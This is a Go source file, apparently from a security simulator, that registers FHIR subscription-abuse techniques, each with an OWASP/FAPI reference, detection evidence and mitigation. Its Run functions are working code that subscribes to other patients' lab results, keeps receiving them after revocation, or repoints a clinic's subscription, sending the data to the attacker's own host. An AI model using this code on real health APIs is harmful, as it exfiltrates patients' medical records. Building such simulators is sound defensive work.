package attacker

import (
	"context"
	"encoding/json"
	"net/http"
	"time"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

const beyondNotices = "FAPI 2.0 is about requests with a token, and a record that the API sends out by itself is none: SP 5.3.4-4 was satisfied when the subscription was " +
	"made. An API that asks at each delivery what it would ask if the subscriber came and read stops this."

// subscriptionScope is what his app is registered for in these scenes.
const subscriptionScope = "user/Subscription.cruds"

var _ = register("F-21", Technique{
	Variant: "records",
	Title:   "Everybody's results are sent to the thief as they are written",
	Story: "The thief is a doctor whose app may subscribe to results. He asks to be sent whatever is written, at the site that his app is registered with, and waits. A laboratory " +
		"amends a result of a patient who is none of his. An API that compares what is written with the criteria, and asks nothing else, sends it to him.",
	Reads:  []string{"FHIR R4 subscription, rest-hook", "OWASP API1:2023", "OWASP API7:2023"},
	Has:    []event.Asset{event.OwnClient},
	Scene:  Scene{OwnScope: subscriptionScope, Amended: true},
	Beyond: beyondNotices,
	Run:    subscribing(everything, "application/fhir+json", func(g Ground) { g.Wait(time.Second) }),
})

var _ = register("F-21/notice", Technique{
	Variant: "empty-notice",
	Title:   "An empty notice says what stands in a stranger's record",
	Story: "The thief is a doctor whose app may subscribe to results. He subscribes to those of one patient, who is none of his, and wants no records: an empty request will do. " +
		"When it comes, he knows that a result of hers was amended; other criteria would have told him which.",
	Reads:    []string{"FHIR R4 subscription, rest-hook", "OWASP API3:2023"},
	Evidence: "A subscription whose criteria name a patient whom the subscriber does not treat; then, in the log of accesses, notices about her.",
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{OwnScope: subscriptionScope, Amended: true},
	Beyond:   beyondNotices,
	Run:      subscribing(amendedOf, "", func(g Ground) { g.Wait(time.Second) }),
})

var _ = register("F-21/revoked", Technique{
	Variant: "after-revocation",
	Title:   "The app was thrown out, and is still sent what is written",
	Story: "The thief is a doctor whose app may subscribe to results. He subscribes, and is found out: everything that his app was granted is withdrawn, and no token of his is good " +
		"any more. The API asks for tokens when somebody comes to read. To send, it asks for none.",
	Reads:    []string{"FHIR R4 subscription", "OWASP API1:2023", "FAPI 2.0 SP 5.3.4-3"},
	Evidence: "Notices in the log of accesses under a token that has expired or was withdrawn.",
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{OwnScope: subscriptionScope, Amended: true, OwnClientRevoked: true},
	Beyond: "SP 5.3.4-3 has an API look at whether a token that it is shown has expired or was revoked. None is shown when a record is sent. An API that asks again about the token " +
		"that subscribed, each time it sends something, stops this.",
	Run: subscribing(everything, "application/fhir+json", func(g Ground) {
		g.Wait(2 * hour)
		g.Wait(time.Second)
	}),
})

var _ = register("F-21/endpoint", Technique{
	Variant: "another-endpoint",
	Title:   "A clinic's subscription is pointed elsewhere",
	Story: "A clinic's inbox has subscribed to the results of its patients. The thief's app may write subscriptions. He looks for those that there are, and writes his own site into " +
		"the clinic's. It stays the clinic's: it is sent what the clinic may see, at his address.",
	Reads:    []string{"OWASP API1:2023", "OWASP API7:2023", "FHIR R4 subscription"},
	Evidence: "A subscription changed by another client than made it, and an endpoint whose site is none of its client's.",
	Has:      []event.Asset{event.OwnClient},
	Scene:    Scene{OwnScope: subscriptionScope, Subscribed: true, Amended: true},
	Beyond:   beyondObjects,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := subscribersToken(ctx, g)
		if err != nil {
			return err
		}
		all := g.Target().FHIRBase + "/Subscription"
		ans, err := a.read(ctx, all, t)
		if err != nil {
			return err
		}
		id := firstOf(ans.body)
		if id == "" {
			return ErrStopped
		}
		mailbox(g)
		if _, err = a.write(ctx, http.MethodPut, all+"/"+id, subscription(g, id, "Observation?", "application/fhir+json"), t); err != nil {
			return err
		}
		g.Wait(time.Second)
		return nil
	},
})

// subscribing is a technique that subscribes and waits.
func subscribing(criteria func(Ground) string, payload string, wait func(Ground)) func(context.Context, Ground) error {
	return func(ctx context.Context, g Ground) error {
		a, t, err := subscribersToken(ctx, g)
		if err != nil {
			return err
		}
		mailbox(g)
		ans, err := a.write(ctx, http.MethodPost, g.Target().FHIRBase+"/Subscription", subscription(g, "", criteria(g), payload), t)
		if err != nil {
			return err
		}
		if !ans.ok() {
			return ErrStopped
		}
		wait(g)
		return nil
	}
}

func everything(Ground) string { return "Observation?" }

func amendedOf(g Ground) string { return "Observation?status=amended&patient=" + stranger(g) }

// subscribersToken is the thief's own, for reading and for subscriptions.
func subscribersToken(ctx context.Context, g Ground) (*app, fapi.TokenResponse, error) {
	a, err := ownApp(ctx, g)
	if err != nil {
		return nil, fapi.TokenResponse{}, err
	}
	t, err := a.signIn(ctx, "openid user/*.rs "+subscriptionScope, g.Target().FHIRBase)
	return a, t, err
}

// mailbox takes whatever is sent to the thief's site.
func mailbox(g Ground) {
	g.Serve(g.Target().OwnHost, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusOK) }))
}

// subscription is a correct one, that sends to the thief's site.
func subscription(g Ground, id, criteria, payload string) []byte {
	type channel struct {
		Type     string `json:"type"`
		Endpoint string `json:"endpoint"`
		Payload  string `json:"payload,omitempty"`
	}
	b, err := json.Marshal(struct {
		ResourceType string  `json:"resourceType"`
		ID           string  `json:"id,omitempty"`
		Status       string  `json:"status"`
		Reason       string  `json:"reason"`
		Criteria     string  `json:"criteria"`
		Channel      channel `json:"channel"`
	}{"Subscription", id, "requested", "results", criteria, channel{"rest-hook", "https://" + g.Target().OwnHost + "/results", payload}})
	if err != nil {
		panic("attacker: " + err.Error()) // strings always marshal
	}
	return b
}
